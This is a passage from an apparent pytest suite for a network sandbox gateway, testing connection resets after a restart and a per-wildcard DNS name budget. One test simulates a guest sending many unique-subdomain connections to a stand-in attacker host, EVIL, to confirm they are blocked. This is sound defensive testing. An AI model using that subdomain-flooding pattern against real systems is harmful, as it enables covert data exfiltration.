        while outside.gateway.restarts == 0 or not outside.gateway._ready.is_set():
            await asyncio.sleep(0.01)
    # What a guest remembers stands for nothing until it asks again, and then for the same.
    assert (await guest.connect(before["api.test"], 443, hello("api.test"))).end == "ECONNRESET"
    after = {name: await told(name) for name in reversed(names)}
    assert after == before


@pytest.mark.defence("name-budget")
async def test_virtual_names_of_a_wildcard_have_the_same_budget(outside: World) -> None:
    guest = await outside.guest(VIRTUAL)
    for number in range(150):
        reply = await guest.ask(question(f"v{number}.wild.test"))
        assert reply is not None
        await guest.connect(reply.addresses[0], 443, hello(f"v{number}.wild.test"))
    assert len(set(outside.origins.seen().questions)) == 150
    await guest.policy(NAMES)
    found = await asyncio.gather(*(guest.connect(EVIL, 443, hello(f"w{number}.wild.test")) for number in range(120)))
    assert {outcome.end for outcome in found} == {"ECONNRESET"}
    assert len(set(outside.origins.seen().questions)) == PER_WILDCARD
